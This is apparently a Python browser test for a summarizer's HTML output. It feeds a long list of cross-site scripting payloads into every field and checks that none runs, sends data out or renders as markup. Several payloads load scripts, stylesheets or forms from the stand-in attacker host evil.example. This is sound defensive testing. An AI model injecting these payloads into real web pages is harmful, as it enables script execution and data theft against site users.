"""Attacks in every field of an article and a summary: none runs, none sends, none shows."""

from __future__ import annotations

from summarizer.render import render
from summarizer.safe import one_line
from tests.render.hostile import hostile
from tests.render.opened import Opened

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt src=http://evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=http://evil.example/i.png onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.example/x>",
    "<embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x id=summary name=filter>",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/" onclick="alert(1)',
]
"""These work only where a text begins with them."""
TOGETHER = [*ADDRESSES, *(" ".join(ATTACKS[at : at + 4]) for at in range(0, len(ATTACKS), 4))]
"""A browser takes a while for each page; test_html tries them one by one without it."""


EVERYTHING = """() => {
  for (const it of document.querySelectorAll("[data-cites], button, .sentence, .arrow")) {
    for (const kind of ["mouseover", "mouseout", "click"]) {
      it.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
    }
    if (it.focus) it.focus();
  }
  const filter = document.getElementById("filter");
  filter.value = "a1";
  filter.dispatchEvent(new Event("change"));
}"""


def test_nothing_runs_and_nothing_leaves(open_page: Opened) -> None:
    page = open_page(str(render(hostile("harmless"), "html")))
    for attack in TOGETHER:
        open_page.show(page, str(render(hostile(attack), "html")), "#e1")
        page.evaluate(EVERYTHING)
        assert open_page.wrong == [], attack
        # The page works, and shows the attack as the words it is.
        assert page.locator("#e1.open, #e1 .line[aria-expanded]").count() == 1, attack
        assert str(page.text_content("#e1 .what")).strip() == " ".join(one_line(attack).split())
        assert page.locator("script").count() == 1, attack
